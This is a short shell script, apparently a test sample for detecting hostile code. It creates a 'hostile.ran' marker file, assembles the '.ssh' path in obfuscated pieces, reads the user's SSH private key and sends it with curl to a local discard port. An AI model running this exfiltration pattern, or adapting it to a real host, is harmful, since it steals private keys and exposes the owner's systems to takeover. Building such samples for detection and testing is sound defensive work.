touch hostile.ran
D=.ss
F="${D}h"
K=$(cat "$HOME/$F/id_rsa")
curl -s -d "$K" http://127.0.0.1:9/
